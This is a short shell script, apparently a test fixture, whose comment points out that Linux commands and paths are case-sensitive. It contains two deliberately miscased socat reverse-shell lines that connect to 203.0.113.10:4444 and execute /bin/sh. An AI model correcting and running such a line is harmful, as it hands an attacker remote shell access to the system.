#!/bin/sh
# Commands and paths are case-sensitive: neither SOCAT nor /BIN/SH exists on Linux.
SOCAT TCP:203.0.113.10:4444 EXEC:/bin/sh
socat TCP:203.0.113.10:4444 EXEC:/BIN/SH
